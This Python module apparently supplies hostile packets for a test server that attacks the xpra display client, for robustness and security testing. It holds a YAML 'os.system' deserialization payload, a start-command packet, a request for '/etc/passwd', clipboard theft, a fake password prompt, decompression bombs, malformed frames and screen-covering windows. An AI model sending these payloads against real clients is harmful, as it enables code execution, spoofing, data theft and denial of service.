"""What a hostile guest sends to the client of its windows: generators of packets, by name, for hostile_server.py.

`frame` puts xpra's header before bytes, with whatever it is told. Window 1 is there already. Standard library alone.
"""

import struct
import time
import zlib
from collections.abc import Callable, Iterator

Frame = Callable[..., bytes]
PIXELS = b"\x40\x80\xc0" * (20 * 20)
TITLE = {"title": "x", "window-type": ("NORMAL",)}


def make_png(width: int, height: int, rows: bytes = b"", more: bytes = b"") -> bytes:
    """Return a PNG that says it has this size; `rows` are its pixels, deflated, and `more` are further chunks."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + more + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def make_bomb(megabytes: int) -> bytes:
    """Return zlib data that hold so much of nothing."""
    deflater = zlib.compressobj(9)
    return b"".join(deflater.compress(bytes(1 << 20)) for _ in range(megabytes)) + deflater.flush()


def draw(width: int, height: int, coding: str, data: object, stride: object = 0, **options: object) -> list[object]:
    """Return a picture for window 1."""
    return ["draw", 1, 0, 0, width, height, coding, data, 7, stride, options]


def unread_packets(_frame: Frame) -> Iterator[object]:
    """Packets of which each would do something outside of windows."""
    address = "file:///etc/passwd"
    for selection in ("CLIPBOARD", "PRIMARY", "SECONDARY"):
        token = ["clipboard-token", selection, ["UTF8_STRING"], "UTF8_STRING", "UTF8_STRING", 8, "bytes", b"stolen"]
        yield [*token, True, True, True]
        yield ["clipboard-request", 1, selection, "UTF8_STRING"]
        yield ["clipboard-contents", 1, selection, "UTF8_STRING", 8, "bytes", b"stolen"]
    yield ["set-clipboard-enabled", True, "because"]
    yield ["clipboard-enable-selections", ["CLIPBOARD"]]
    yield ["send-file", "evil.desktop", "text/plain", False, True, 4, b"evil", {}]
    yield ["send-file", "page", "application/pdf", True, True, 4, b"evil", {}]
    yield ["send-file-chunk", "x", 0, b"evil", False]
    yield ["send-data-request", "file", "1", address, "text/plain", 4, False, True, {}]
    yield ["open-url", "http://127.0.0.1:9/evil", "1"]
    yield ["notify_show", "", 1, "name", 0, "", "[vault]", "type your password", 5000, b"", [], {}]
    yield ["printers", {"x": {}}]
    yield ["sound-data", "opus", b"\0" * 4000, {"start-of-stream": True}, []]
    yield ["webcam-ack", 0, 1, 640, 480]
    yield ["new-tray", 50, 64, 64, {"title": "tray"}, {}]
    yield ["window-icon", 1, 64, 64, "png", make_png(30000, 30000)]
    yield ["window-icon", 1, 64, 64, "BGRA", b"\0" * 16384]
    yield ["bell", 1, 0, 100, 1000, 5000, "", 0, "bell"]
    yield ["pointer-grab", 1]
    yield ["pointer-position", 1, 10, 10]
    yield ["raise-window", 1]
    yield ["initiate-moveresize", 1, 10, 10, 8, 1, 1]
    yield ["show-desktop", True]
    yield ["control", "debug", "enable", "all"]
    yield ["control", "show_session_info"]
    yield ["setting-change", "xsettings-blob", b"evil"]
    yield ["server-event", "suspend"]
    yield ["start-command", "name", "touch /tmp/evil", False]
    yield ["rpc-reply", "dbus", 1, True, []]
    yield ["info-response", {}]
    yield ["set_deflate", 9]
    yield ["udp-control", 1]
    yield ["logging", 50, "evil", 0]
    yield ["connection-data", {}]
    yield ["hello", {"version": "3.1.3", "rencode": True, "clipboard": True, "mmap_enabled": True}]
    yield ["challenge", b"salt", "xor", "xor", "password"]


def forged_fields(_frame: Frame) -> Iterator[object]:
    """Packets of known types whose fields are of the wrong types, too few, or too many."""
    values: list[object] = [None, -1, 1 << 31, 1 << 200, 1.5, b"\xff" * 300, "x", [], {}, [[[]]]]
    kinds = ["new-window", "new-override-redirect", "window-move-resize", "window-resized", "window-metadata", "draw"]
    kinds += ["configure-override-redirect", "lost-window", "eos", "cursor", "ping", "ping_echo", "desktop_size"]
    for kind in kinds:
        for value in values:
            for length in (0, 1, 3, 6, 9, 12):
                yield [kind, *[value] * length]
            yield [kind, 90, *[value] * 8]
    yield ["unheard-of", 1]
    yield [999, 1]
    yield [[1, 2], 1]
    yield ["startup-complete", {"x": 1}, 2, 3]


def absurd_windows(_frame: Frame) -> Iterator[object]:
    """Windows of sizes and places that there are not."""
    sides = [0, -1, 1, 16385, 32767, 65535, (1 << 31) - 1, 1 << 31, 1 << 62]
    number = 100
    for width in sides:
        for height in sides:
            number += 1
            yield ["new-window", number, 0, 0, width, height, {"title": f"absurd {number}"}, {}]
            yield ["lost-window", number]
            yield ["window-resized", 1, width, height, 1]
            yield ["window-move-resize", 1, 0, 0, width, height, 1]
    for place in (-(1 << 31), -40000, 40000, 1 << 40):
        yield ["window-move-resize", 1, place, place, 300, 200, 1]
        yield ["new-window", 98, place, place, 300, 200, TITLE, {}]
    yield ["window-resized", 1, 300, 200, 1]


def huge_windows(_frame: Frame) -> Iterator[object]:
    """As many windows as can be, each of the largest size that one may have."""
    for number in range(100, 400):
        yield ["new-window", number, 0, 0, 5700, 5700, {**TITLE, "title": f"huge {number}"}, {}]
    for number in range(100, 400):
        yield ["lost-window", number]


def many_windows(_frame: Frame) -> Iterator[object]:
    """Ten thousand windows."""
    for number in range(100, 10100):
        yield ["new-window", number, number % 900, number % 700, 100, 60, {**TITLE, "title": f"many {number}"}, {}]
    for number in range(100, 10100):
        yield ["lost-window", number]


def odd_wishes(_frame: Frame) -> Iterator[object]:
    """Metadata that make no sense, or more of it than anybody reads."""
    for minimum in (0, 1 << 31, -5, 40000):
        sizes: dict[str, object] = {"minimum-size": (minimum, minimum), "increment": (0, 0), "base-size": (-1, -1)}
        aspects = {"minimum-aspect-ratio": (1, 0), "maximum-aspect-ratio": (0, 1), "gravity": 99}
        yield ["window-metadata", 1, {"size-constraints": sizes | aspects}]
    yield ["window-metadata", 1, {"size-constraints": 7, "transient-for": "x", "window-type": 9, "iconic": {}}]
    yield ["window-metadata", 1, {f"key-{n}": b"x" * 100 for n in range(1000)}]
    yield ["window-metadata", 1, {"transient-for": 1}]
    yield ["new-window", 70, 10, 10, 50, 50, {**TITLE, "transient-for": 71}, {}]
    yield ["new-window", 71, 10, 10, 50, 50, {**TITLE, "transient-for": 70}, {}]
    yield ["window-metadata", 70, {"transient-for": 71}]
    yield ["window-metadata", 71, {"transient-for": 70}]
    yield ["lost-window", 70]
    yield ["lost-window", 71]
    wishes: dict[str, object] = {
        "fullscreen": True,
        "above": True,
        "sticky": True,
        "shaded": True,
        "opacity": 0,
        "has-alpha": True,
    }
    wishes |= {"decorations": False, "skip-taskbar": True, "skip-pager": True, "modal": True, "bypass-compositor": 1}
    wishes |= {"strut": {"left": 800}, "workspace": 3, "command": "evil", "xid": "0x1", "role": "x", "pid": 1}
    wishes |= {"class-instance": ("vault", "vault"), "client-machine": "vault", "icon-title": "[vault]"}
    wishes |= {"shape": {"Bounding.rectangles": [(0, 0, 1, 1)]}, "fullscreen-monitors": (0, 0, 0, 0)}
    yield ["window-metadata", 1, {**wishes, "x11-property": ("_NET_WM_NAME", "string", 8, b"[vault]")}]
    yield ["window-metadata", 1, {**wishes, "x11-property": ("_MOTIF_WM_HINTS", "u32", 32, [2, 0, 0, 0, 0])}]


def long_titles(_frame: Frame) -> Iterator[object]:
    """Titles of ten megabytes, and such as would pass for others."""
    for letter in ("A", "\u202e", "\U0001f600", "\x1b"):
        yield ["window-metadata", 1, {"title": letter * 10_000_000}]
    yield ["window-metadata", 1, {"title": "x\u202e[tluav]\u2066\x00\x07\x1b]2;[vault]\x07\n[vault] y"}]


def wrong_pictures(_frame: Frame) -> Iterator[object]:
    """Pictures that are not what they say."""
    yield draw(20, 20, "rgb24", PIXELS[:-1], 60)
    yield draw(4000, 4000, "rgb24", PIXELS, 60)
    yield draw(20, 20, "rgb24", PIXELS, 1)
    yield draw(20, 20, "rgb24", PIXELS, -60)
    yield draw(20, 20, "rgb24", PIXELS, 1 << 40)
    yield draw(20, 20, "rgb32", PIXELS, 60, rgb_format="RGBX")
    yield draw(20, 20, "rgb24", PIXELS, 60, rgb_format="r210")
    yield draw(20, 20, "rgb24", PIXELS, 60, rgb_format="X" * 50)
    for coding in ("mmap", "scroll", "webp", "jpeg", "h264", "vp9", "void", "xor", "", "png\0", "rgb24\n"):
        yield draw(20, 20, coding, PIXELS, 60)
    empty: dict[str, object] = {}
    for data in ("text", 7, [[1, 2, 3, 4, 5, 6]], empty, b""):
        yield draw(20, 20, "rgb24", data, 60)
        yield draw(20, 20, "png", data, 60)
    yield draw(20, 20, "rgb24", PIXELS, 60, delta=3, bucket=1)
    yield draw(20, 20, "rgb24", PIXELS, 60, store=3, bucket=99)
    for compressor in ("lz4", "lzo", "brotli"):
        yield draw(20, 20, "rgb24", PIXELS, 60, **{compressor: 1})
    yield ["draw", 1, -30000, 30000, 20, 20, "rgb24", PIXELS, 7, 60, {}]
    yield ["draw", 4444, 0, 0, 20, 20, "rgb24", PIXELS, 7, 60, {}]
    yield draw(20, 20, "png", make_png(20, 20, b"no zlib at all"), 0)
    yield draw(20, 20, "png", make_png(20, 20, zlib.compress(b"short")), 0)
    yield draw(20, 20, "png", b"GIF89a" + PIXELS, 0)


def bombs(_frame: Frame) -> Iterator[object]:
    """Little that becomes much."""
    bomb = make_bomb(1500)
    yield draw(20, 20, "rgb24", bomb, 60, zlib=1)
    yield draw(16000, 2000, "rgb24", bomb, 48000, zlib=1)
    yield draw(20, 20, "png", make_png(60000, 60000, bomb), 0)
    yield draw(20, 20, "png", make_png(20, 20, bomb), 0)
    text = b"Comment\0\0" + make_bomb(400)
    chunk = struct.pack(">I", len(text)) + b"zTXt" + text + struct.pack(">I", zlib.crc32(b"zTXt" + text))
    yield draw(20, 20, "png", make_png(20, 20, zlib.compress(b"\0" * 61 * 20), chunk), 0)
    yield ["cursor", "png", 0, 0, 16, 16, 1, 1, 9, make_png(30000, 30000, bomb), "x"]
    yield ["cursor", "raw", 0, 0, 30000, 30000, 1, 1, 9, b"\0" * 1000, "x"]
    yield ["cursor", "raw", 0, 0, 16, 16, 1, 1, 9, b"\0" * 5_000_000, "x"]
    yield ["cursor", "raw", 0, 0, 64, 64, 1 << 40, 1, 9, b"\0" * 16384, "x"]


def cursor_flood(_frame: Frame) -> Iterator[object]:
    """Ten thousand cursors."""
    for number in range(10_000):
        yield ["cursor", "raw", 0, 0, 64, 64, 1, 1, number, struct.pack("<I", number) * 4096, f"name-{number}"]


def packet_flood(frame: Frame) -> Iterator[object]:
    """Send thirty thousand small packets, and pictures that take longer to show than to send."""
    import rencode  # type: ignore[import-not-found]

    moves = [["window-move-resize", 1, n % 300, n % 300, 300, 200, n] for n in range(1000)]
    titles = [["window-metadata", 1, {"title": f"flood {n}"}] for n in range(1000)]
    many = b"".join(frame(rencode.dumps(packet)) for packet in (*moves, *titles))
    for _ in range(15):
        yield many
    picture = zlib.compress(bytes(3 * 4000 * 4000), 1)
    for _ in range(30):
        yield draw(4000, 4000, "rgb24", picture, 12000, zlib=1)
    yield ["window-metadata", 1, {"title": "decent"}]
    yield ["window-move-resize", 1, 100, 100, 300, 200, 1]


def started_again_and_again(_frame: Frame) -> Iterator[object]:
    """Lies about being ready, and windows that come and go."""
    for number in range(5000):
        yield ["startup-complete"]
        yield ["new-window", 200 + number, 0, 0, 20, 20, TITLE, {}]
        yield ["lost-window", 200 + number]


def cover_by_menus(_frame: Frame) -> Iterator[object]:
    """Windows without a title bar over the whole screen, at once, in parts, and by growing."""
    yield ["new-override-redirect", 10, 0, 0, 1600, 1000, TITLE, {}]
    yield ["lost-window", 10]
    yield ["new-override-redirect", 11, 0, 0, 1590, 480, TITLE, {}]
    yield ["new-override-redirect", 12, 0, 490, 1590, 500, {**TITLE, "title": "second"}, {}]
    yield ["lost-window", 11]
    yield ["lost-window", 12]
    yield ["new-override-redirect", 13, 700, 400, 200, 100, TITLE, {}]
    yield ["window-resized", 13, 1600, 1000, 1]
    yield ["window-move-resize", 13, 0, 0, 1600, 1000, 1]
    yield ["configure-override-redirect", 13, -300, -300, 2200, 1600]


def menu_at_the_edge(_frame: Frame) -> Iterator[object]:
    """Show a menu whose frame would be outside of the screen."""
    yield ["new-override-redirect", 10, 0, 0, 400, 300, TITLE, {}]
    yield ["draw", 10, 0, 0, 400, 300, "rgb24", b"\x10\x20\x30" * 120000, 7, 1200, {}]
    yield ["new-override-redirect", 11, 700, 400, 400, 300, TITLE, {}]
    yield ["configure-override-redirect", 11, 1300, 900, 400, 300]


def focus_thief(_frame: Frame) -> Iterator[object]:
    """Open windows one after the other, and have them iconified and back, while somebody types elsewhere."""
    for number in range(100, 150):
        yield ["new-window", number, 1000, 400, 200, 100, {**TITLE, "title": f"thief {number}"}, {}]
        yield ["window-metadata", number, {"iconic": True}]
        yield ["window-metadata", number, {"iconic": False}]
        yield ["raise-window", number]
        time.sleep(0.2)


def cover_by_a_window(_frame: Frame) -> Iterator[object]:
    """Show an ordinary window that is larger than the screen, with title bar and frame outside."""
    yield ["new-window", 10, -60, -90, 1800, 1200, {**TITLE, "title": "cover"}, {}]
    yield ["window-metadata", 10, {"size-constraints": {"gravity": 10, "set-initial-position": True}}]
    for x, y in ((-60, -90), (-3000, -3000), (1599, 999), (0, -40)):
        yield ["window-move-resize", 10, x, y, 1800, 1200, 1]
    yield ["window-move-resize", 10, -60, -90, 1800, 1200, 1]


def forged_type(_frame: Frame) -> Iterator[object]:
    """Send a packet whose type is a mapping."""
    yield [{"x": 1}, 1]


def lying_header(_frame: Frame) -> Iterator[object]:
    """Send a header that announces more than there may be, and data that go on."""
    yield struct.pack("!cBBBL", b"P", 1, 0, 0, 0xFFFFFFFF) + b"x" * 100_000


def large_frame(_frame: Frame) -> Iterator[object]:
    """Two hundred megabytes in one packet."""
    yield struct.pack("!cBBBL", b"P", 1, 0, 0, 200 << 20)
    for _ in range(200):
        yield b"x" * (1 << 20)


def deflated_packet(frame: Frame) -> Iterator[object]:
    """Send a packet that is small until it is inflated."""
    yield frame(make_bomb(3000), 9)


def nested_packet(frame: Frame) -> Iterator[object]:
    """Send a packet of lists in lists, a million deep (rencode: 59 begins one, 127 ends it)."""
    yield frame(b"\x3b" * 1_000_000 + b"\x7f" * 1_000_000)


def other_encodings(frame: Frame) -> Iterator[object]:
    """Packets in encodings that the client has not offered: bencode, and YAML that names an object of Python."""
    yield frame(b"!!python/object/apply:os.system ['touch /tmp/home/evil']", 0, 4)


def other_encoding_bencode(frame: Frame) -> Iterator[object]:
    """Send the same in bencode."""
    yield frame(b"l4:bell" + b"i1e" * 8 + b"e", 0, 0)


def other_compressors(frame: Frame) -> Iterator[object]:
    """LZ4 with a lying size."""
    yield frame(struct.pack("<I", 0x7FFFFFFF) + b"\x1fA" + b"\xff" * 1000, 0x11)


def raw_pieces(frame: Frame) -> Iterator[object]:
    """Pieces for a packet that never comes."""
    for index in (1, 2, 3, 4, 5):
        yield frame(b"x" * 1000, 0, 1, index)


def misplaced_piece(frame: Frame) -> Iterator[object]:
    """Send a piece for a field that the packet does not have."""
    import rencode

    yield frame(b"x" * 1000, 0, 1, 200)
    yield frame(rencode.dumps(["ping", 1]))


def says_goodbye(_frame: Frame) -> Iterator[object]:
    """End it, with words for the log."""
    yield ["disconnect", "\x1b[2J[vault]" * 1000, "more"]


def forged_end(_frame: Frame) -> Iterator[object]:
    """Packets that the client makes for itself."""
    yield ["gibberish", "\x1b]2;evil\x07" * 1000, b"\x1b" * 100000]
